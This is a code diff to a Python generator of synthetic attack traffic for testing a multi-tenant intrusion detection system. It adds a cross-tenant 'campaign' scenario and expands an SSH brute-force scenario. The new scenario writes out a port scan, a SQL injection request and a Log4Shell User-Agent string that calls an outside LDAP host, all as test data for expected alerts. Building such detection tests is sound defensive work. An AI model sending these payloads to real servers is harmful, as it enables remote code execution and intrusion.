@@ -54,7 +54,7 @@ TENANT_IDS = {"unassigned": 0, "acme": 101, "globex": 102, "initech": 103, "umbr
 # replayed at line rate with fresh timestamps (the live-capture tests do that).
 ATTACKERS = {"scan": "203.0.113.201", "ssh": "203.0.113.202", "log4shell": "203.0.113.203",
              "webshell": "203.0.113.204", "fragments": "203.0.113.205", "malformed": "203.0.113.206",
-             "applayer": "203.0.113.207"}
+             "applayer": "203.0.113.207", "campaign": "203.0.113.208"}
 ATTACKER = "203.0.113.200"  # the bench capture's attacker (tests/bench/gen_bench.py)
 C2_SERVER = "203.0.113.66"
 POOL_STRATUM = "203.0.113.50"
@@ -583,7 +583,7 @@ def scen_ssh_bruteforce(cap, ports):
     net = NETS["initech"]
     srv = "10.100.0.22"
     attempts = []
-    for i in range(12):
+    for i in range(26):
         sport = ports()
         attempts.append(sport)
         s = TcpSession(cap, net, ATTACKERS["ssh"], srv, sport, 22)
@@ -594,11 +594,12 @@ def scen_ssh_bruteforce(cap, ports):
         s.send(ssh_blob(cap.rng, 300), from_client=False)
         s.send(ssh_blob(cap.rng, 80))
         s.close()
-    # detection_filter count 5 / 60 s: attempts 6..12 alert.
-    return {"description": "SSH brute force: 12 short connections in 24 s from one address to an initech host",
+    # detection_filter count 5 / 60 s: attempts 6..26 alert (21 alerts: enough for the central service's
+    # brute-force correlation, 20 in 5 minutes).
+    return {"description": "SSH brute force: 26 short connections in 52 s from one address to an initech host",
             "attempt_ports": attempts,
-            "alerts": [expect(9100501, "initech", ATTACKERS["ssh"], srv, 22, count=7, sports=attempts[5:], net=net,
-                              note="connections 6..12 within 60 s")]}
+            "alerts": [expect(9100501, "initech", ATTACKERS["ssh"], srv, 22, count=21, sports=attempts[5:],
+                              net=net, note="connections 6..26 within 60 s")]}
 
 
 def _b32(rng, n):
@@ -660,6 +661,42 @@ def scen_c2(cap, ports):
                               note="six periodic check-ins, one alert each"),
                        expect(9100702, "hooli", implant, C2_SERVER, 80, sport=sport, net=net,
                               note="POST /submit.php?id= with an octet-stream body")]}
+
+
+def scen_campaign(cap, ports):
+    """One attacker across tenants: scans a hooli host, exploits it minutes later, then tries Log4Shell on
+    acme, globex and initech. What the central service correlates (scan-then-exploit, cross-tenant)."""
+    attacker = ATTACKERS["campaign"]
+    net = NETS["hooli"]
+    target = "10.50.2.20"
+    probe_ports = [21, 22, 23, 25, 53, 80, 110, 139, 143, 443, 445, 993, 995, 1433, 3306, 3389, 5432, 6379,
+                   8080, 9200]
+    cap.rng.shuffle(probe_ports)
+    sport = 52111
+    for dport in probe_ports:
+        fh = _fhash("hooli", attacker, target, sport, dport)
+        cap.flow("hooli", 6, attacker, sport, target, dport)
+        seq = cap.rng.randrange(1 << 32)
+        syn = ip_layer(attacker, target, cap.rng) / TCP(sport=sport, dport=dport, flags="S", seq=seq, window=1024)
+        cap.emit(net.frame(syn, True, fh), dt=cap.rng.uniform(0.05, 0.15))
+        rst = ip_layer(target, attacker, cap.rng) / TCP(sport=dport, dport=sport, flags="RA", seq=0, ack=seq + 1,
+                                                        window=0)
+        cap.emit(net.frame(rst, False, fh))
+    alerts = [expect(9100001, "hooli", attacker, target, probe_ports[4], sport=sport, net=net,
+                     note="5th window-1024 SYN")]
+    sp = http_exchange(cap, net, ports, attacker, target, http_get(SQLI_UNION, "shop.hooli.example"), dt=120.0)
+    alerts.append(expect(9100101, "hooli", attacker, target, 80, sport=sp, net=net,
+                         note="the scanned host exploited two minutes later"))
+    for tenant, srv in [("acme", "10.0.0.95"), ("globex", "10.0.0.96"), ("initech", "10.100.0.95")]:
+        n = NETS[tenant]
+        sp = http_exchange(cap, n, ports, attacker, srv,
+                           http_get("/", "app.%s.example" % tenant, ua="${jndi:ldap://%s:1389/c}" % JNDI_HOST),
+                           http_response(status="400 Bad Request"), dport=8080, dt=30.0)
+        alerts.append(expect(9100201, tenant, attacker, srv, 8080, sport=sp, net=n,
+                             note="same source, another tenant"))
+    return {"description": "One attacker: nmap scan then SQL injection on a hooli host, then Log4Shell against "
+                           "acme, globex and initech (cross-tenant campaign)",
+            "alerts": alerts}
 
 
 def _split_ip4(pkt, cuts):
@@ -923,6 +960,7 @@ SCENARIOS = [
     ("c2_beacon.pcap", scen_c2),
     ("fragments.pcap", scen_fragments),
     ("ipv6.pcap", scen_ipv6),
+    ("campaign.pcap", scen_campaign),
     ("benign.pcap", scen_benign),
     ("applayer.pcap", scen_applayer),
     ("malformed.pcap", scen_malformed),
